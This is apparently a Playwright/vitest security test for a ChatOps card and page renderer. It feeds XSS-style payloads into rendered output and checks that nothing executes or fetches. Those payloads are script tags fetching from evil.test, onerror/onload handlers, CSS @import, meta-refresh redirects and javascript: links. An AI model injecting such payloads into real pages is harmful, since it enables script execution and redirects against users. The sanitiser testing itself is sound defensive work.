import { marked } from 'marked'
import type { Browser } from 'playwright-core'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import type { Card } from '../../../action/domain/card.ts'
import { renderCard } from '../../../action/domain/render-card.ts'
import { renderReport } from '../../../action/domain/render-summary.ts'
import { type Post, renderPage } from '../../../scripts/demo-chatops/render-page.ts'
import { sampleCard, sampleRequest } from '../../support/cards/sample-card.ts'
import { launchChromium } from '../../support/launch-chromium.ts'

/** Long enough for apt, where there is no browser yet. */
const installMaxMs = 900_000
const tableRows = 3_000
const hostile = [
  '<script>owned = 1; fetch("http://evil.test/script")</script>',
  '<img src="http://evil.test/image" onerror="owned = 2">',
  '<svg onload="owned = 3"></svg><iframe src="http://evil.test/frame"></iframe>',
  '<style>@import "http://evil.test/style"; main { display: none }</style>',
  '<meta http-equiv="refresh" content="0; url=http://evil.test/away"><base href="http://evil.test/">',
  '![image](http://evil.test/markdown) [click](javascript:owned=4) [there](http://evil.test/link)',
  'http://evil.test/bare www.evil.test <http://evil.test/angle> @octocat #1',
  '</details></td></table></main> <!-- --> <script>owned = 5</script>',
]
const all = hostile.join('\n\n')

let browser: Browser
beforeAll(async () => {
  browser = await launchChromium()
}, installMaxMs)
afterAll(async () => {
  await browser?.close()
})

/** Elements of the page that could do something; a program of the browser. */
const findActive = `[...document.body.querySelectorAll('*')]
  .filter((each) => each.matches('script, img, svg, iframe, style, meta, base')
    || each.getAttributeNames().some((name) => name.startsWith('on')))
  .map((each) => each.outerHTML)`

/** What a browser does with a page: what ran, what was asked for, what there is to click on and to fetch. */
async function open(html: string) {
  const page = await browser.newPage()
  const requests: string[] = []
  await page.route('**', async (route) => {
    requests.push(route.request().url())
    await route.abort()
  })
  try {
    await page.setContent(html)
    await page.waitForLoadState('networkidle')
    const ran: unknown = await page.evaluate('globalThis.owned')
    const links: unknown = await page.evaluate(
      '[...document.querySelectorAll("a")].map((a) => a.getAttribute("href"))',
    )
    const active: unknown = await page.evaluate(findActive)
    return { requests, ran, links, active, text: await page.locator('body').innerText() }
  } finally {
    await page.close()
  }
}

/** A card on which every foreign text is hostile, with a table that no comment can hold. */
function hostileCard(): string {
  const cell = [hostile.join(' ')]
  const card: Card = {
    ...sampleCard,
    state: 'failed',
    message: all,
    hint: all,
    reasonCode: '<script>owned=6</script>',
    plan: {
      ...sampleCard.plan,
      command: 'restore',
      database: hostile[0],
      target: hostile[1],
    } as Card['plan'],
    approvers: [{ id: 1, login: hostile[1] ?? '' }],
  }
  const request = { ...sampleRequest, arguments: { 'backup-id': hostile[0] ?? '' } }
  const details = renderReport([
    { kind: 'paragraph', text: [all, { code: all }] },
    { kind: 'facts', facts: [{ label: hostile[1] ?? '', value: cell }] },
    { kind: 'commands', language: 'sh', lines: hostile },
    {
      kind: 'fold',
      title: hostile[0] ?? '',
      blocks: [
        {
          kind: 'table',
          columns: [{ title: hostile[0] ?? '' }, { title: 'Rows' }],
          rows: Array.from({ length: tableRows }, () => [cell, ['1']]),
        },
      ],
    },
  ])
  return renderCard({ request, signature: 'unsigned', card, details })
}

const post = (markdown: string): Post => ({
  kind: 'comment',
  author: hostile[0] ?? '',
  isBot: true,
  at: new Date('2026-11-22T09:00:00Z'),
  isEdited: false,
  markdown,
  reactions: [],
})

describe('renderCard', () => {
  it('is inert where a page lets all HTML through', async () => {
    const seen = await open(await marked.parse(hostileCard()))
    expect(seen).toMatchObject({ ran: undefined, requests: [], active: [] })
    expect(seen.text).toContain('/restore failed')
  })
})

describe('renderPage', () => {
  it('lets a hostile card run nothing, fetch nothing and lead nowhere', async () => {
    const seen = await open(renderPage([post(hostileCard())]))
    expect(seen).toMatchObject({ ran: undefined, requests: [], active: [] })
    expect(seen.text).toContain('/restore failed')
    expect(seen.text).toContain('<script>owned = 1;')
    const foreign = (seen.links as string[]).filter(
      (href) => !/^(?:#issuecomment-1001|https:\/\/github\.example\/)/.test(href),
    )
    expect(foreign).toEqual([])
  })

  it('lets a hostile comment run nothing and fetch nothing', async () => {
    const seen = await open(renderPage([post(all)]))
    expect(seen).toMatchObject({ ran: undefined, requests: [], active: [] })
    expect((seen.links as string[]).filter((href) => !/^https?:/.test(href))).toEqual([])
  })

  it('is what keeps a comment from that', async () => {
    // Without the one that would lead away before anything can be seen.
    const staying = hostile.filter((text) => !text.includes('refresh'))
    const { ran, requests, active } = await open(`<main>${staying.join('')}</main>`)
    expect(ran).toBeGreaterThan(0)
    expect(requests).toContain('http://evil.test/image')
    expect(active).not.toEqual([])
    expect((await open(all)).requests).toContain('http://evil.test/away')
  })
})
